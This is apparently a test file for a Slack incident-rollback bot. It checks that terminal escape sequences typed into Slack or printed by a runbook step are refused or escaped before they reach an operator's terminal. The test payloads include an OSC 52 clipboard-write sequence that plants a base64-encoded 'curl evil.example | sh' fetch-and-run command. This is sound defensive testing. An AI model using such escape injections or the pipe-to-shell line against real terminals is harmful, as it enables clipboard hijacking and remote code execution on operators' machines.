/**
 * Terminal escapes typed into Slack, or printed by a step, must not reach an operator's terminal:
 * `ESC[2J` clears the screen, `ESC]0;…BEL` retitles the window, `ESC]52;c;…BEL` writes the clipboard
 * (on terminals that honour OSC 52). Where a person types text (the modal's reason, `/rollback note`,
 * slash `reason=`) it is refused with a clear message; a thread reply cannot be refused, so it is
 * stored as sent and escaped wherever the CLI prints it (rca, timeline, progress, output tails).
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rollbotCli } from '../support/bot-process.js';
import { eventCallback, messageEvent, viewSubmission } from '../support/fake-slack/index.js';
import { NO_SSHD } from '../support/no-sshd.js';
import {
  type Harness,
  INCIDENT_CHANNEL,
  requestFormState,
  requestRollback,
  startHarness,
  waitFor,
} from '../support/rollbot-harness.js';

const ESC = '\x1b';
const BEL = '\x07';
const CLEAR = `${ESC}[2J`;
const TITLE = `${ESC}]0;you have been owned${BEL}`;
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`;
const PAYLOAD = `${CLEAR}${TITLE}${CLIPBOARD}`;
/** Any control character but tab and newline, C1 included: what a terminal might obey. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let h: Harness;
/** An incident waiting for its approval: its thread takes the replies, its id the notes. */
let incidentId: string;
beforeAll(async () => {
  // Every request here waits for an approval nobody gives: no host is ever contacted.
  h = await startHarness({ mode: 'http', sshd: NO_SSHD });
  ({ incidentId } = await requestRollback(h, 'U0ALICE', {
    level: 2,
    severity: 'major',
    reason: 'checkout 5xx since v2.4.0',
  }));
});
afterAll(async () => {
  await h?.stop();
});

const cliEnv = () => ({
  PATH: process.env.PATH,
  ROLLBOT_FROM_DIST: process.env.ROLLBOT_FROM_DIST,
  HOME: process.env.HOME,
  ROLLBOT_DB: join(h.dir, 'data', 'rollbot.db'),
  ROLLBOT_RUNBOOKS: join(h.dir, 'runbooks'),
  LOG_LEVEL: 'silent',
});

/** Submits the open request modal with `reason` (and `impact`) and returns Slack's view of the ack. */
async function submitReason(user: string, reason: string, impact?: string) {
  const viewsBefore = h.slack.views.size;
  await h.slash(user, 'shop level=2 severity=major');
  await waitFor('the modal', () => h.slack.views.size > viewsBefore);
  const view = [...h.slack.views.values()].at(-1)!;
  const state = requestFormState({
    service: 'shop',
    severity: 'major',
    level: '2',
    reason,
    ...(impact === undefined ? {} : { impact }),
  });
  return h.driver.interaction(viewSubmission({ user, view, state }, h.slack));
}

describe('terminal escapes typed into Slack', () => {
  it('the modal refuses a reason with escapes, naming the field, and opens nothing', async () => {
    const roots = () => h.slack.messages(INCIDENT_CHANNEL).filter((m) => !m.thread_ts).length;
    const rootsBefore = roots();
    for (const reason of [`db down ${CLEAR}`, `db down ${TITLE}`, `db down ${CLIPBOARD}`]) {
      const res = await submitReason('U0ALICE', reason);
      expect(res.status).toBe(200);
      expect(res.json).toMatchObject({
        response_action: 'errors',
        errors: {
          reason: expect.stringMatching(/^The reason contains control characters \(U\+001B, escape/),
        },
      });
    }
    // The optional impact field is held to the same rule.
    const res = await submitReason('U0ALICE', 'db down', `EU checkout ${TITLE}`);
    expect(res.json).toMatchObject({
      response_action: 'errors',
      errors: { impact: expect.stringMatching(/^The impact contains control characters \(U\+001B, escape/) },
    });
    // Whatever door a request comes through, the service holds typed text to the same rule.
    for (const [reason, impact] of [
      [`db down ${CLEAR}`, undefined],
      ['db down', `EU ${CLIPBOARD}`],
      ['x'.repeat(501), undefined],
    ] as const) {
      const opened = await h.server.core.services.request(
        {
          service: 'shop',
          env: 'production',
          level: 2,
          severity: 'major',
          reason,
          ...(impact ? { impact } : {}),
          requestedBy: 'U0ALICE',
          params: {},
          drill: false,
        },
        { via: 'slack' },
      );
      expect(opened).toMatchObject({ ok: false, code: 'invalid_input' });
    }
    expect(roots()).toBe(rootsBefore);
  });

  it('/rollback note and reason= with escapes are refused with a clear message', async () => {
    for (const text of [`note ${incidentId} look ${TITLE}`, `shop level=2 reason="x${CLIPBOARD}"`]) {
      const before = h.slack.ephemerals.length;
      await h.slash('U0BOB', text);
      const reply = await waitFor('the refusal', () => h.slack.ephemerals.slice(before)[0]);
      expect(reply.text).toMatch(/The (note|reason) contains control characters \(U\+001B, escape/);
    }
    const notes = await timelineNotes(incidentId);
    expect(notes).toEqual([]);
  });

  it('a thread reply is stored as sent, and rca and timeline print no raw escape', async () => {
    await replyInThread(incidentId, `it was the cache ${PAYLOAD}`);
    expect(await timelineNotes(incidentId)).toEqual([`it was the cache ${PAYLOAD}`]);

    const env = cliEnv();
    // One after the other: a loaded machine makes each CLI start slow, and parallel ones time out.
    const rca = await rollbotCli(['rca', incidentId], env);
    const timeline = await rollbotCli(['timeline', incidentId], env);
    for (const out of [rca, timeline]) {
      expect(out.code, out.stderr).toBe(0);
      expect(RAW_CONTROL.test(out.stdout + out.stderr), JSON.stringify(out.stdout)).toBe(false);
    }
    // Escaped, not dropped: what was typed is still there to read.
    expect(rca.stdout).toContain('\\u001b]52;c;');
    expect(timeline.stdout).toContain('\\u001b]0;you have been owned\\u0007');

    const file = join(h.dir, 'rca.md');
    expect((await rollbotCli(['rca', incidentId, '--out', file], env)).code).toBe(0);
    expect(RAW_CONTROL.test(readFileSync(file, 'utf8'))).toBe(false);
  }, 180_000);
});

describe('terminal escapes printed by a step', () => {
  it("the failed step's output tail shows the escapes as text", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rollbot-esc-'));
    mkdirSync(join(dir, 'runbooks'));
    writeFileSync(
      join(dir, 'runbooks', 'noisy.yml'),
      `service: noisy
description: A step whose output carries terminal escapes
approvers: [U0LEAD]
environments:
  production:
    hosts: [ { name: localhost, local: true } ]
levels:
  1:
    name: Feature toggle
    target: 2m
    approvals: 0
    steps:
      - name: Print escapes, then fail
        run: printf '\\033[2J\\033]0;owned\\007\\033]52;c;ZWNobyBvd25lZA==\\007done\\n'; exit 3
`,
    );
    const env = {
      PATH: process.env.PATH,
      ROLLBOT_FROM_DIST: process.env.ROLLBOT_FROM_DIST,
      HOME: process.env.HOME,
      ROLLBOT_RUNBOOKS: join(dir, 'runbooks'),
      ROLLBOT_DB: join(dir, 'data', 'rollbot.db'),
      LOG_LEVEL: 'silent',
    };
    const run = await rollbotCli(
      ['run', 'noisy', '--level', '1', '--severity', 'major', '--reason', 'escapes', '--yes'],
      env,
    );
    expect(run.code, run.stderr).toBe(1);
    expect(run.stdout).toContain('\\u001b]52;c;ZWNobyBvd25lZA==\\u0007done');
    expect(RAW_CONTROL.test(run.stdout + run.stderr), JSON.stringify(run.stdout)).toBe(false);
    const incidentId = /INC-\d{4}-\d{4}/.exec(run.stdout)![0];
    const rca = await rollbotCli(['rca', incidentId], env);
    expect(RAW_CONTROL.test(rca.stdout + rca.stderr), JSON.stringify(rca.stdout)).toBe(false);
  }, 120_000);
});

async function replyInThread(incidentId: string, text: string): Promise<void> {
  const incident = await waitFor('the incident thread', async () => {
    const found = await h.server.core.store.getIncident(incidentId);
    return found?.slackTs ? found : undefined;
  });
  const event = messageEvent(
    { user: 'U0CAROL', text, channel: incident.slackChannel!, thread_ts: incident.slackTs! },
    h.slack,
  );
  await h.interactEvent(eventCallback(event, h.slack));
  await waitFor('the reply on the timeline', async () => (await timelineNotes(incidentId)).length > 0);
}

async function timelineNotes(incidentId: string): Promise<unknown[]> {
  return (await h.server.core.store.timeline(incidentId))
    .filter((e) => e.type === 'note.added')
    .map((e) => e.data?.text);
}
